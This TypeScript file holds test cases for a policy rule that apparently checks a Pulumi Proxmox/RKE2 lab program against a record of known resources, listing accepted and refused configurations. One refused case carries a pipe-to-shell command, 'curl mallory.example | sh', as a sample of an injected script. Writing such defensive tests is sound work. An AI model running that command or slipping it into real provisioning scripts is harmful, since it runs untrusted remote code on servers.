/** The rule about resources that the program does not declare. */
import { commandWith } from "../bundle.ts";
import { type Given, unknown } from "../run-rule.ts";
import type { CaseTable } from "./case.ts";

const provider = (props: Record<string, unknown>): Given => ({
	type: "pulumi:providers:proxmoxve",
	name: "proxmox",
	props: { apiToken: "pulumi@pve!lab=1", endpoint: "https://10.1.2.3:8006/", ...props },
});
const image = (props: Record<string, unknown>): Given => ({
	type: "proxmoxve:download/file:File",
	name: "image-pve1",
	props: {
		checksum: "a".repeat(64),
		checksumAlgorithm: "sha256",
		contentType: "import",
		datastoreId: "local",
		fileName: "image.qcow2",
		nodeName: "pve1",
		overwrite: false,
		url: "https://images.lab.internal/image.img",
		...props,
	},
});
const connection = {
	dialErrorLimit: 20,
	host: "10.1.2.3",
	hostKey: "ssh-ed25519 AAAA",
	perDialTimeout: 15,
	port: 22,
	privateKey: "key",
	user: "ops",
};
const command = (props: Record<string, unknown>): Given => ({
	type: "command:remote:Command",
	name: "worker-1-preflight",
	props: { addPreviousOutputInEnv: false, connection, create: "sudo -n timeout 1 true", logging: "stderr", ...props },
});
const { hostKey: _, ...withoutHostKey } = connection;
const known = "the record of known resources";

export const programCases: CaseTable = {
	"program-known-resources": {
		accepts: {
			"a provider of another lab": provider({}),
			"an image of another lab": image({}),
			"a command on a node of another name": command({}),
			"a connection that is unknown at preview": command({ connection: unknown }),
			"a component of the program": { type: "rke2-lab:platform:Traefik", props: { any: "thing" } },
		},
		refuses: {
			"a provider that does not verify a certificate": [
				provider({ insecure: true }),
				`proxmox has insecure, which ${known} does not have; remove it.`,
			],
			"a second provider": [
				{ ...provider({}), name: "other" },
				`other is a pulumi:providers:proxmoxve that ${known} does not have; remove it.`,
			],
			"an image without a checksum": [
				image({ checksum: undefined }),
				`image-pve1 has another value in checksum than ${known}; allowed is <digest>.`,
			],
			"a file that replaces another": [
				image({ overwrite: true }),
				`image-pve1 has another value in overwrite than ${known}; allowed is false.`,
			],
			"a value that is unknown": [
				image({ url: unknown }),
				"url is not known at preview, so this rule cannot be decided; set it from configuration rather than from the output of another resource.",
			],
			"a connection to any host": [
				command({ connection: withoutHostKey }),
				`worker-1-preflight has no connection > hostKey, which ${known} has; set <line>.`,
			],
			"an output in the log": [
				command({ logging: "stdoutAndStderr" }),
				`worker-1-preflight has another value in logging than ${known}; allowed is stderr.`,
			],
			"an environment": [
				command({ environment: { HTTPS_PROXY: "http://10.1.2.3" } }),
				`worker-1-preflight has environment, which ${known} does not have; remove it.`,
			],
			"two files of one path": [
				{
					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
					props: {
						stdin:
							"file /etc/rancher/rke2/config.yaml 0600 root:root\n\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n",
					},
				},
				"worker-1-converge carries /etc/rancher/rke2/config.yaml twice, so this rule cannot be decided.",
			],
			"another script than the program's": [
				{
					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
					props: { stdin: "curl mallory.example | sh\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n" },
				},
				"stdin of worker-1-converge begins with something else than files or a script of the program, so this rule cannot be decided.",
			],
		},
	},
};
